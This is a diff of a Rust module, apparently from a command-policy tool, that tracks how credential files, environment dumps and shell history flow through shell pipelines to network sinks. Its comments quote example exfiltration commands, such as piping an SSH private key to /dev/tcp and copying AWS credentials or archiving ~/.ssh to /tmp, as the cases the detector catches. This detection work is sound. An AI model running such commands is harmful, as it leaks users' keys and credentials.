@@ -9,14 +9,18 @@
 //! against the policy's `exfiltration.allow`; without a grant every flow is denied, whatever
 //! the destination.
 
+use std::collections::HashMap;
+use std::ops::Range;
+
 use serde::Serialize;
 use toolgate_core::path_class::secrets::ENVIRONMENT_DUMPERS;
-use toolgate_core::path_class::{SecretSource, secret_source, secret_source_below};
+use toolgate_core::path_class::{SECRET_SOURCES, SecretSource, secret_source, secret_source_below};
 
 use super::is_socket_path;
 use super::sinks::sent;
 use crate::facts::destinations::collect;
 use crate::facts::paths::{aimed_class, tilde_home, working_directory};
+use crate::facts::writes::{COPIERS, content_targets};
 use crate::knowledge::exfiltration::{
     DUMPER_LIST_OPTIONS, OPAQUE_OUTPUT, SEARCH_QUIET, TREE_READERS, WORDS_NOT_FILES,
 };
@@ -34,92 +38,261 @@ pub struct SecretFlow {
     pub destinations: Vec<Destination>,
 }
 
+/// A set of secret sources, one bit per row of [`SECRET_SOURCES`].
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+struct Secrets(u16);
+
+impl Secrets {
+    fn bit(source: SecretSource) -> u16 {
+        let at = SECRET_SOURCES
+            .iter()
+            .position(|i| i.source == source)
+            .unwrap_or(0);
+        1 << at
+    }
+
+    fn add(&mut self, source: SecretSource) {
+        self.0 |= Self::bit(source);
+    }
+
+    fn extend(&mut self, sources: impl IntoIterator<Item = SecretSource>) {
+        for s in sources {
+            self.add(s);
+        }
+    }
+
+    fn is_empty(self) -> bool {
+        self.0 == 0
+    }
+
+    fn iter(self) -> impl Iterator<Item = SecretSource> {
+        SECRET_SOURCES
+            .iter()
+            .enumerate()
+            .filter(move |(at, _)| self.0 & (1 << at) != 0)
+            .map(|(_, i)| i.source)
+    }
+}
+
+/// What the commands read so far carry: per command its secrets, and running counts per
+/// source so that what a range of commands carries is known in constant time.
+struct Carried {
+    sets: Vec<Secrets>,
+    counts: Vec<[u32; 16]>,
+}
+
+impl Carried {
+    fn push(&mut self, set: Secrets) {
+        let mut next = *self.counts.last().unwrap_or(&[0; 16]);
+        for (at, n) in next.iter_mut().enumerate() {
+            if set.0 & (1 << at) != 0 {
+                *n += 1;
+            }
+        }
+        self.sets.push(set);
+        self.counts.push(next);
+    }
+
+    /// What the commands of `range` (those already read) carry.
+    fn over(&self, range: &Option<Range<usize>>) -> Secrets {
+        let Some(r) = range else {
+            return Secrets::default();
+        };
+        let end = r.end.min(self.sets.len());
+        let start = r.start.min(end);
+        let (a, b) = (&self.counts[start], &self.counts[end]);
+        let mut out = Secrets::default();
+        for at in 0..16 {
+            if b[at] > a[at] {
+                out.0 |= 1 << at;
+            }
+        }
+        out
+    }
+}
+
+/// The state of one pass over the commands: what each carries, and the files written so far
+/// with secrets in them (`cp ~/.aws/credentials /tmp/c`, `env > /tmp/e`).
+struct Pass<'a> {
+    analysis: &'a CommandAnalysis,
+    cx: &'a CommandContext<'a>,
+    carried: Carried,
+    written: HashMap<String, Secrets>,
+}
+
 /// The secrets that reach a network sink in `analysis`, each with the sink's destinations.
 pub fn secret_flows(analysis: &CommandAnalysis, cx: &CommandContext) -> Vec<SecretFlow> {
-    let carried = carried(analysis, cx);
+    let mut pass = Pass {
+        analysis,
+        cx,
+        carried: Carried {
+            sets: Vec::with_capacity(analysis.commands.len()),
+            counts: vec![[0; 16]],
+        },
+        written: HashMap::new(),
+    };
     let mut out: Vec<SecretFlow> = Vec::new();
     for (i, cmd) in analysis.commands.iter().enumerate() {
+        let dir = cmd
+            .cwd_changed
+            .then(|| working_directory(analysis, i))
+            .flatten();
+        let dir = dir.as_deref();
+        let mut here = pass.reads(i, dir);
+        if !opaque(cmd) {
+            here.0 |= pass.carried.over(&cmd.stdin_from).0;
+            for r in &cmd.words_from {
+                here.0 |= pass.carried.over(&Some(r.clone())).0;
+            }
+        }
+        pass.carried.push(here);
+        if let Some(flow) = pass.sink(i, dir) {
+            for source in flow.0.iter() {
+                let flow = SecretFlow {
+                    source,
+                    destinations: flow.1.clone(),
+                };
+                if !out.contains(&flow) {
+                    out.push(flow);
+                }
+            }
+        }
+        pass.record_writes(i, dir);
+    }
+    out
+}
+
+impl Pass<'_> {
+    /// The secret source `path` names, or the secrets a file written earlier holds.
+    fn secrets_of(&self, path: &str, dir: Option<&str>, tree: bool) -> Secrets {
+        let path = in_directory(path, dir);
+        let mut out = Secrets::default();
+        let cx = self.cx;
+        out.extend(aimed_class(
+            &path,
+            |p| secret_source(p, cx.cwd, cx.home),
+            |s| s.info().patterns,
+        ));
+        if tree {
+            out.extend(secret_source_below(&path, cx.cwd, cx.home));
+        }
+        if let Some(secrets) = self.written.get(&path) {
+            out.0 |= secrets.0;
+        }
+        out
+    }
+
+    /// What command `i` sends to the network, and where, when it is a sink that sends a
+    /// secret.
+    fn sink(&self, i: usize, dir: Option<&str>) -> Option<(Secrets, Vec<Destination>)> {
+        let cmd = &self.analysis.commands[i];
         let socket_output = cmd.writes.iter().any(|w| is_socket_path(w));
         let sent = sent(cmd);
         if sent.is_none() && !socket_output {
-            continue;
+            return None;
         }
-        let mut sources: Vec<SecretSource> = Vec::new();
-        let from = |range: &Option<std::ops::Range<usize>>| -> Vec<SecretSource> {
-            range
-                .clone()
-                .map(|r| carried[r].iter().flatten().copied().collect())
-                .unwrap_or_default()
-        };
+        let mut secrets = Secrets::default();
         let mut destinations = Vec::new();
         if socket_output {
             // `cat ~/.ssh/id_rsa > /dev/tcp/h/p`: its whole output goes to the socket.
-            sources.extend(carried[i].iter().copied());
+            secrets.0 |= self.carried.sets[i].0;
             collect(cmd, &mut destinations);
         }
         if let Some(sent) = sent {
-            let dir = cmd
-                .cwd_changed
-                .then(|| working_directory(analysis, i))
-                .flatten();
             for f in &sent.files {
-                sources.extend(secret_of(f, dir.as_deref(), cx));
+                secrets.0 |= self.secrets_of(f, dir, false).0;
             }
             for t in &sent.trees {
-                sources.extend(secret_of(t, dir.as_deref(), cx));
-                sources.extend(secret_below(t, dir.as_deref(), cx));
+                secrets.0 |= self.secrets_of(t, dir, true).0;
             }
             if sent.stdin || (sent.words && cmd.args_from_input) {
-                sources.extend(from(&cmd.stdin_from));
+                secrets.0 |= self.carried.over(&cmd.stdin_from).0;
                 if let Some(f) = &cmd.stdin_file {
-                    sources.extend(secret_of(f, dir.as_deref(), cx));
+                    secrets.0 |= self.secrets_of(f, dir, false).0;
                 }
             }
-            if sent.words {
-                sources.extend(from(&cmd.words_from));
+            if sent.words || sent.stdin {
+                // Substituted words, and here-strings (`<<< "$(cat f)"`), are sent.
+                for r in &cmd.words_from {
+                    secrets.0 |= self.carried.over(&Some(r.clone())).0;
+                }
             }
             if let Some(network) = cmd.inline_network.as_ref().filter(|n| n.connects) {
-                sources.extend(network.reads.iter().copied());
+                secrets.extend(network.reads.iter().copied());
             }
             destinations.extend(sent.destinations);
+        }
+        if secrets.is_empty() {
+            return None;
         }
         if destinations.is_empty() {
             destinations.push(Destination::Unknown {
                 program: table_name(&cmd.program),
             });
         }
-        let mut seen: Vec<SecretSource> = Vec::new();
-        for source in sources {
-            if seen.contains(&source) {
-                continue;
-            }
-            seen.push(source);
-            let flow = SecretFlow {
-                source,
-                destinations: destinations.clone(),
-            };
-            if !out.contains(&flow) {
-                out.push(flow);
+        Some((secrets, destinations))
+    }
+
+    /// The secrets command `i` reads: credential files among its operands (or trees above
+    /// them, for archivers and recursive copies), files written earlier with secrets, the
+    /// file its stdin comes from, the whole environment, the secrets its inline code reads.
+    fn reads(&self, i: usize, dir: Option<&str>) -> Secrets {
+        let cmd = &self.analysis.commands[i];
+        let mut out = Secrets::default();
+        if let Some(n) = &cmd.inline_network {
+            out.extend(n.reads.iter().copied());
+        }
+        if prints_environment(cmd) {
+            out.add(SecretSource::ProcessEnvironment);
+        }
+        let program = cmd.program_lower();
+        if program == "history" && cmd.args.iter().all(|a| a.parse::<u32>().is_ok()) {
+            out.add(SecretSource::ShellHistory);
+        }
+        if opaque(cmd) {
+            return out;
+        }
+        if let Some(f) = &cmd.stdin_file {
+            out.0 |= self.secrets_of(f, dir, false).0;
+        }
+        if !WORDS_NOT_FILES.contains(&program.as_str()) {
+            let trees = TREE_READERS.contains(&program.as_str());
+            for operand in &cmd.operands {
+                if operand.contains("://") {
+                    continue;
+                }
+                let path = operand.strip_prefix("if=").unwrap_or(operand);
+                out.0 |= self.secrets_of(path, dir, trees).0;
             }
         }
+        out
     }
-    out
-}
 
-/// The secret source `path` names (relative paths after a `cd` taken from `dir`).
-fn secret_of(path: &str, dir: Option<&str>, cx: &CommandContext) -> Option<SecretSource> {
-    let path = in_directory(path, dir);
-    aimed_class(
-        &path,
-        |p| secret_source(p, cx.cwd, cx.home),
-        |s| s.info().patterns,
-    )
-}
-
-/// The secret source a directory `path` holds (`~`, `~/.config`).
-fn secret_below(path: &str, dir: Option<&str>, cx: &CommandContext) -> Option<SecretSource> {
-    let path = in_directory(path, dir);
-    secret_source_below(&path, cx.cwd, cx.home)
+    /// Files command `i` writes with secrets in them: its output when that carries secrets
+    /// (`env > /tmp/e`, `tar czf /tmp/k.tgz ~/.ssh`), the destination of a copy of a secret
+    /// (`cp ~/.aws/credentials /tmp/`).
+    fn record_writes(&mut self, i: usize, dir: Option<&str>) {
+        let cmd = &self.analysis.commands[i];
+        let targets = content_targets(cmd);
+        if targets.is_empty() {
+            return;
+        }
+        let mut secrets = self.carried.sets[i];
+        if COPIERS.contains(&cmd.program_lower().as_str())
+            && let Some((_, sources)) = cmd.operands.split_last()
+        {
+            for s in sources {
+                secrets.0 |= self.secrets_of(s, dir, true).0;
+            }
+        }
+        if secrets.is_empty() {
+            return;
+        }
+        for t in targets {
+            let path = in_directory(&t, dir);
+            self.written.entry(path).or_default().0 |= secrets.0;
+        }
+    }
 }
 
 fn in_directory(path: &str, dir: Option<&str>) -> String {
@@ -128,28 +301,6 @@ fn in_directory(path: &str, dir: Option<&str>) -> String {
         Some(d) if !path.starts_with(['/', '~']) => format!("{d}/{path}"),
         _ => path.into_owned(),
     }
-}
-
-/// For every command, the secrets its output carries: the ones it reads, and (unless its
-/// output holds nothing of its input) the ones its stdin and substituted words carry.
-fn carried(analysis: &CommandAnalysis, cx: &CommandContext) -> Vec<Vec<SecretSource>> {
-    let mut out: Vec<Vec<SecretSource>> = Vec::with_capacity(analysis.commands.len());
-    for (i, cmd) in analysis.commands.iter().enumerate() {
-        let mut here = reads(analysis, i, cx);
-        if !opaque(cmd) {
-            for range in [&cmd.stdin_from, &cmd.words_from].into_iter().flatten() {
-                // Ranges always point back (producers and substitutions run first).
-                let end = range.end.min(i);
-                for s in out[range.start.min(end)..end].iter().flatten() {
-                    if !here.contains(s) {
-                        here.push(*s);
-                    }
-                }
-            }
-        }
-        out.push(here);
-    }
-    out
 }
 
 /// Whether `cmd`'s output holds nothing of what it reads.
@@ -191,52 +342,4 @@ fn prints_environment(cmd: &SimpleCommand) -> bool {
             .iter()
             .all(|a| DUMPER_LIST_OPTIONS.contains(&a.as_str())),
     }
-}
-
-/// The secrets command `index` reads: credential files among its operands (or trees above
-/// them, for archivers and recursive copies), the file its stdin comes from, the whole
-/// environment, the secrets its inline code reads.
-fn reads(analysis: &CommandAnalysis, index: usize, cx: &CommandContext) -> Vec<SecretSource> {
-    let cmd = &analysis.commands[index];
-    let mut out: Vec<SecretSource> = Vec::new();
-    if let Some(n) = &cmd.inline_network {
-        out.extend(n.reads.iter().copied());
-    }
-    if prints_environment(cmd) {
-        out.push(SecretSource::ProcessEnvironment);
-    }
-    let program = cmd.program_lower();
-    if program == "history" && cmd.args.iter().all(|a| a.parse::<u32>().is_ok()) {
-        out.push(SecretSource::ShellHistory);
-    }
-    if opaque(cmd) {
-        return out;
-    }
-    let dir = cmd
-        .cwd_changed
-        .then(|| working_directory(analysis, index))
-        .flatten();
-    if let Some(f) = &cmd.stdin_file {
-        out.extend(secret_of(f, dir.as_deref(), cx));
-    }
-    if !WORDS_NOT_FILES.contains(&program.as_str()) {
-        let trees = TREE_READERS.contains(&program.as_str());
-        for operand in &cmd.operands {
-            if operand.contains("://") {
-                continue;
-            }
-            let path = operand.strip_prefix("if=").unwrap_or(operand);
-            out.extend(secret_of(path, dir.as_deref(), cx));
-            if trees {
-                out.extend(secret_below(path, dir.as_deref(), cx));
-            }
-        }
-    }
-    let mut unique = Vec::new();
-    for s in out {
-        if !unique.contains(&s) {
-            unique.push(s);
-        }
-    }
-    unique
 }
